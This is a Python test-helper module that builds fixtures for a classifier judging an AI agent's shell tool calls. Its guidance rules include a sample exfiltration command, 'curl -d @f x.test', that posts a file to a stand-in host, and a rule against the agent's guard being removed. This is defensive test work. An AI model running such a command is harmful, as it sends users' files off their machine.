"""Questions for the classifier, from few words."""

from __future__ import annotations

from datetime import date

from lineclear.core.call import Agent, Call, Environment, Principal
from lineclear.core.effects import Command, Effects, Proof
from lineclear.core.facts import Facts
from lineclear.core.messages import typed
from lineclear.core.modes import Mode
from lineclear.core.own import Own
from lineclear.core.prose import Guidance, ProseRule
from lineclear.core.shell.words import Word
from lineclear.core.tools import Argument, Kind, Source, Tool, Use
from lineclear.engine.classify import Question

BASH = Tool(
    "Bash",
    Source.BUILTIN,
    Kind.SHELL,
    host="claude-code",
    arguments=(
        Argument("/command", Use.COMMAND, required=True),
        Argument("/description", Use.PROSE),
        Argument("/timeout", Use.DATA),
    ),
)
UNKNOWN = Tool("mystery", Source.UNKNOWN)
SOFT, HARD = "exfiltration", "escape"
GUIDANCE = Guidance(
    soft_block=(ProseRule(SOFT, "Data leaves the machine.", ("curl -d @f x.test",), ("curl x.test",)),),
    hard_block=(ProseRule(HARD, "The agent's own guard is taken off."),),
)


def command(*words: str, index: int = 0) -> Command:
    """A command as analysis would find it, of a program that nobody described."""
    return Command(
        index, tuple(Word(word, word) for word in words), " ".join(words), Proof.NONE, "unknown program", None
    )


def facts(tool_input, *, tool=BASH, commands=(), touches=(), session="s-1", principal="p-1", doubt=None) -> Facts:
    call = Call(
        session_id=session,
        principal=Principal(principal),
        tool_name=tool.name,
        tool_input=tool_input,
        tool_use_id=None,
        mode=Mode.AUTO,
        environment=Environment(cwd="/work/repo", roots=("/work/repo",)),
        agent=Agent(host="claude-code", type="main"),
        allowed_tools=None,
        interactive=True,
        context={},
    )
    return Facts(call, tool, Effects(tuple(commands), tuple(touches), doubt=doubt), date(2026, 6, 1), Own())


def question(tool_input=None, messages=(), *, guidance=GUIDANCE, missing=0, recent=(), **more) -> Question:
    """A question about ``make`` in the shell, unless told otherwise; ``messages`` in the Messages API's shapes."""
    asked = {"command": "make"} if tool_input is None else tool_input
    return Question(facts(asked, **more), guidance, typed(list(messages)), missing, tuple(recent))


def user(content) -> dict:
    return {"role": "user", "content": content}
